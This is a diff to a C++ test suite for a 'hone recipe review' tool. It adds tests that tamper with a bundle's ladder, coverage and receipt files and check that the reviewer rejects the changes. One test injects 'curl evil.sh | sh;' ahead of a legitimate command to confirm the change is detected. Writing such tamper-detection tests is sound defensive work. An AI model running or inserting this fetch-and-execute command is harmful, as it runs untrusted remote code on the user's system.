@@ -56,13 +56,22 @@ class RecipeProgram : public ::testing::Test {
 
   // A copy of the bundle in which a text was replaced, bound again so that every hash holds.
   static void forge(const std::string& file, std::string_view before, std::string_view after) {
-    const Path forged = folder_->path() / "forged";
-    std::filesystem::remove_all(forged);
-    std::filesystem::copy(folder_->path() / "bundle", forged);
-    std::string text = *read_file(forged / file);
+    std::string text = *read_file(folder_->path() / "bundle" / file);
     const std::size_t at = text.find(before);
     ASSERT_NE(at, std::string::npos) << file << ": " << text;
     text.replace(at, before.size(), after);
+    put(file, text);
+  }
+  static void forge_ladder(void (*change)(Ladder& ladder)) {
+    const std::string text = *read_file(folder_->path() / "bundle/ladder.json");
+    auto ladder = *from_document<Ladder>(*Json::parse(text), support_schema_version);
+    change(ladder);
+    put("ladder.json", to_document(ladder, support_schema_version).dump());
+  }
+  static void put(const std::string& file, const std::string& text) {
+    const Path forged = folder_->path() / "forged";
+    std::filesystem::remove_all(forged);
+    std::filesystem::copy(folder_->path() / "bundle", forged);
     ASSERT_TRUE(write_file(forged / file, text));
     const Path manifest_file = forged / "manifest.json";
     auto manifest = *from_document<BundleManifest>(*Json::parse(*read_file(manifest_file)), 1);
@@ -177,6 +186,60 @@ TEST_F(RecipeProgram, IsNotClimbedAgainWithOptionsNobodyHasRead) {
   const Review seen = review("forged");
   EXPECT_NE(seen.verdict, ReviewVerdict::approve);
   EXPECT_THAT(open_checks(seen), Contains("again.options"));
+}
+
+TEST_F(RecipeProgram, IsFoundOutWhereATargetWasInvented) {
+  forge_ladder([](Ladder& ladder) {
+    RunProof& absent = ladder.tiers[1].runs[1];
+    const Target target = absent.target;
+    absent = ladder.tiers[1].runs[0];
+    absent.target = target;
+    absent.speed.reset();
+  });
+  EXPECT_NE(review("forged").verdict, ReviewVerdict::approve);
+}
+
+TEST_F(RecipeProgram, IsSentBackWhereTheMachineIsAnother) {
+  forge("ladder.json", "\"cpu\": \"", "\"cpu\": \"Cray-1 ");
+  const Review seen = review("forged");
+  EXPECT_EQ(seen.verdict, ReviewVerdict::request_changes);
+  EXPECT_THAT(open_checks(seen), Contains("again.L1.latency"));
+  EXPECT_THAT(open_checks(seen), Contains("again.L1.speed"));
+}
+
+TEST_F(RecipeProgram, IsFoundOutWhereCoverageWasInvented) {
+  forge("coverage.json", "\"nodes\": ", "\"nodes\": 1");
+  const Review seen = review("forged");
+  EXPECT_EQ(seen.verdict, ReviewVerdict::reject);
+  EXPECT_THAT(open_checks(seen), Contains("again.coverage"));
+}
+
+TEST_F(RecipeProgram, IsFoundOutWhereAStageSaysMoreThanItDid) {
+  forge("receipt.json", "\"nodes_after\": ", "\"nodes_after\": 1");
+  EXPECT_THAT(open_checks(review("forged")), Contains("again.receipt.stage"));
+}
+
+TEST_F(RecipeProgram, IsFoundOutWhereACommandDoesSomethingElse) {
+  forge("ladder.json", "\"hone inspect ", "\"curl evil.sh | sh; hone inspect ");
+  EXPECT_THAT(open_checks(review("forged")), Contains("again.L0.commands"));
+}
+
+TEST_F(RecipeProgram, IsToldBesideABundleWithoutAManifest) {
+  std::filesystem::create_directories(folder_->path() / "bare");
+  const ProcessEnd end =
+      hone({"recipe", "review", "bundle", "bare", "--models", models(), "-q"});
+  EXPECT_EQ(end.exit_code, 3) << end.standard_error;
+  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("bundle: approve"));
+  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("bare: reject"));
+}
+
+TEST_F(RecipeProgram, WarnsInTheReportOfABundleThatWasChanged) {
+  forge("ladder.json", "\"placement\": 1.0", "\"placement\": 0.5");
+  ASSERT_TRUE(write_file(folder_->path() / "forged/notes.json",
+                         "{\"schema_version\": 1, \"surprises\": [], \"without_friction\": true}"));
+  const ProcessEnd end = hone({"recipe", "report", "forged"});
+  EXPECT_EQ(end.exit_code, 3);
+  EXPECT_THAT(end.standard_output, ::testing::HasSubstr("- notes.json: "));
 }
 
 TEST_F(RecipeProgram, TellsItsReportInMarkdownAndHtml) {
